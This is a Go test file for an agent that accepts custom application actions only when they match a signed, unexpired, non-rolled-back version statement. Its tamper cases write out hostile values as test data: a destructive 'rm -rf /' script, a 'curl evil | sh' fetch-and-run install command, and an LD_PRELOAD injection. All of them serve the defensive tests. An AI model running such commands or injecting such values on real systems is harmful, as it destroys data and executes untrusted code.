package agent

import (
	"crypto/rand"
	"strings"
	"testing"
	"time"

	"github.com/jonboulle/clockwork"
	"google.golang.org/protobuf/proto"
	"google.golang.org/protobuf/types/known/timestamppb"

	pb "github.com/vmapp/vmapp/proto/vmapp/v1"
	"github.com/vmapp/vmapp/sign"
	"github.com/vmapp/vmapp/sign/minisign"
	"github.com/vmapp/vmapp/sign/signpb"
)

var signedAt = time.Date(2026, 12, 1, 0, 0, 0, 0, time.UTC)

// signedGoal is g/app 1.0.0 with custom actions "lint" and "health",
// signed by k with sequence 3, expiring a day after signedAt.
func signedGoal(t *testing.T, k minisign.PrivateKey) *pb.GoalApplication {
	t.Helper()
	actions := []*pb.GalleryApplicationCustomAction{
		{Name: "lint", Script: "./lint.sh", Parameters: []*pb.GalleryApplicationCustomActionParameter{
			{Name: "LEVEL", Required: true, Type: pb.ParamString},
			{Name: "RULES", Type: pb.ParamConfigurationDataBlob},
			{Name: "REPORT", Type: pb.ParamLogOutputBlob},
		}},
		{Name: "health", Script: "curl -f localhost:8080"},
	}
	ga := &pb.GoalApplication{Gallery: "g", Application: "app", Version: "1.0.0",
		ManageActions: &pb.UserArtifactManage{Install: "sh install.sh", Remove: "sh remove.sh"},
		Package:       &pb.Artifact{Sha256: strings.Repeat("ab", 32), SizeBytes: 3},
		CustomActions: actions,
		Signing: &pb.VersionSignatures{Tenant: "default", Sequence: 3, ExpireTime: timestamppb.New(signedAt.Add(24 * time.Hour)),
			CustomActions: proto.CloneOf(&pb.GoalApplication{CustomActions: actions}).CustomActions},
	}
	s, err := sign.Sign(k, signpb.GoalStatement(ga), signedAt)
	if err != nil {
		t.Fatal(err)
	}
	ga.Signing.Signatures = []*pb.VersionSignature{{KeyId: k.ID.String(), Signature: string(s.Encode())}}
	return ga
}

// verifying is an agent that trusts k, at signedAt, having installed
// sequence 3 of g/app.
func verifying(t *testing.T, k minisign.PrivateKey) *agent {
	t.Helper()
	tr, err := ParseTrust([]byte(k.Public().String()))
	if err != nil {
		t.Fatal(err)
	}
	return &agent{cfg: Config{Trust: tr}, policy: tr.Policy, clock: clockwork.NewFakeClockAt(signedAt),
		st: &state{Sequences: map[string]uint64{"g/app": 3}}}
}

func lintRun() *pb.ActionRun {
	return &pb.ActionRun{Id: "r1", Application: "g/app", Version: "1.0.0", Action: "lint", Script: "./lint.sh",
		Parameters: []*pb.ActionParameterValue{{Name: "LEVEL", Type: pb.ParamString, Value: "2"}, {Name: "REPORT", Type: pb.ParamLogOutputBlob}}}
}

// checkRun runs an action only as a trusted, valid statement of the
// installed version covers it: its script and its parameters exactly as
// signed. Every other run is refused, saying why.
func TestCheckRun(t *testing.T) {
	k, err := minisign.GenerateKey(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct {
		name   string
		edit   func(a *agent, ga *pb.GoalApplication, r *pb.ActionRun)
		reason sign.Reason // 0: runs
		detail string
	}{
		{"as signed", func(*agent, *pb.GoalApplication, *pb.ActionRun) {}, 0, ""},
		{"parameters in another order, optional one given", func(_ *agent, _ *pb.GoalApplication, r *pb.ActionRun) {
			r.Parameters = append([]*pb.ActionParameterValue{{Name: "RULES", Type: pb.ParamConfigurationDataBlob, Data: []byte("x")}}, r.Parameters...)
			r.Parameters[1], r.Parameters[2] = r.Parameters[2], r.Parameters[1]
		}, 0, ""},
		{"script changed in the run", func(_ *agent, _ *pb.GoalApplication, r *pb.ActionRun) { r.Script = "rm -rf /" },
			sign.SignatureInvalid, "the script vmappd sent is not the one signed"},
		{"script changed in the statement too", func(_ *agent, ga *pb.GoalApplication, r *pb.ActionRun) {
			r.Script, ga.Signing.CustomActions[0].Script = "rm -rf /", "rm -rf /"
		}, sign.SignatureInvalid, "with other contents"},
		{"an action not covered", func(_ *agent, ga *pb.GoalApplication, r *pb.ActionRun) {
			r.Action, r.Script = "added-later", "true"
			ga.CustomActions = append(ga.CustomActions, &pb.GalleryApplicationCustomAction{Name: "added-later", Script: "true"})
		}, sign.Unsigned, "custom action 'added-later' is not one the signed statement of version 1.0.0 (sequence 3) covers"},
		{"an undeclared parameter", func(_ *agent, _ *pb.GoalApplication, r *pb.ActionRun) {
			r.Parameters = append(r.Parameters, &pb.ActionParameterValue{Name: "LD_PRELOAD", Type: pb.ParamString, Value: "/tmp/x.so"})
		}, sign.SignatureInvalid, "parameter LD_PRELOAD is not one of the action as signed"},
		{"a parameter given twice", func(_ *agent, _ *pb.GoalApplication, r *pb.ActionRun) {
			r.Parameters = append(r.Parameters, &pb.ActionParameterValue{Name: "LEVEL", Type: pb.ParamString, Value: "3"})
		}, sign.SignatureInvalid, "parameter LEVEL is given twice"},
		{"a parameter's type changed", func(_ *agent, _ *pb.GoalApplication, r *pb.ActionRun) {
			r.Parameters[1].Type = pb.ParamConfigurationDataBlob
		},
			sign.SignatureInvalid, "parameter REPORT is a ConfigurationDataBlob, signed as a LogOutputBlob"},
		{"a required parameter missing", func(_ *agent, _ *pb.GoalApplication, r *pb.ActionRun) { r.Parameters = r.Parameters[1:] },
			sign.SignatureInvalid, "its required parameter LEVEL is missing"},
		{"the version's install command changed", func(_ *agent, ga *pb.GoalApplication, _ *pb.ActionRun) { ga.ManageActions.Install = "curl evil | sh" },
			sign.SignatureInvalid, "with other contents"},
		{"signatures stripped", func(_ *agent, ga *pb.GoalApplication, _ *pb.ActionRun) { ga.Signing = nil },
			sign.Unsigned, "carries no signature"},
		{"the statement expired", func(a *agent, _ *pb.GoalApplication, _ *pb.ActionRun) {
			a.clock = clockwork.NewFakeClockAt(signedAt.Add(25 * time.Hour))
		}, sign.Expired, ""},
		{"a higher sequence installed since", func(a *agent, _ *pb.GoalApplication, _ *pb.ActionRun) { a.st.Sequences["g/app"] = 4 },
			sign.Rollback, ""},
		{"the goal state lists another version", func(_ *agent, ga *pb.GoalApplication, _ *pb.ActionRun) { ga.Version = "2.0.0" },
			sign.Unsigned, "the goal state carries no statement of g/app version 1.0.0"},
	} {
		t.Run(c.name, func(t *testing.T) {
			a, ga, r := verifying(t, k), signedGoal(t, k), lintRun()
			c.edit(a, ga, r)
			err := a.checkRun(r, ga)
			if c.reason == 0 {
				if err != nil {
					t.Fatal(err)
				}
				return
			}
			if got := sign.ReasonOf(err); got != c.reason || !strings.Contains(refusalText(err), c.detail) {
				t.Fatalf("%v (reason %v); want reason %v saying %q", err, got, c.reason, c.detail)
			}
			if !strings.HasPrefix(refusalText(err), c.reason.String()+": ") {
				t.Errorf("the run's reason %q doesn't start with %s", refusalText(err), c.reason)
			}
		})
	}
	if err := verifying(t, k).checkRun(lintRun(), nil); sign.ReasonOf(err) != sign.Unsigned {
		t.Errorf("no goal: %v", err)
	}
}

// The health action runs only as signed: a changed script, or a
// statement that doesn't cover it, is refused; an agent that verifies
// nothing runs what it is sent.
func TestCheckHealthAction(t *testing.T) {
	k, err := minisign.GenerateKey(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	ga := signedGoal(t, k)
	def := pb.FindAction(ga.CustomActions, nil, pb.HealthAction)
	if err := verifying(t, k).checkHealthAction(ga, def); err != nil {
		t.Errorf("as signed: %v", err)
	}
	changed := proto.CloneOf(def)
	changed.Script = "true"
	if err := verifying(t, k).checkHealthAction(ga, changed); sign.ReasonOf(err) != sign.SignatureInvalid || !strings.Contains(err.Error(), "is not the one signed") {
		t.Errorf("changed script: %v", err)
	}
	if err := (&agent{}).checkHealthAction(ga, changed); err != nil {
		t.Errorf("without trust: %v", err)
	}
	other := signedGoal(t, k)
	other.Signing.CustomActions = other.Signing.CustomActions[:1]
	s, err := sign.Sign(k, signpb.GoalStatement(other), signedAt)
	if err != nil {
		t.Fatal(err)
	}
	other.Signing.Signatures[0].Signature = string(s.Encode())
	if err := verifying(t, k).checkHealthAction(other, def); sign.ReasonOf(err) != sign.Unsigned {
		t.Errorf("not covered: %v", err)
	}
}
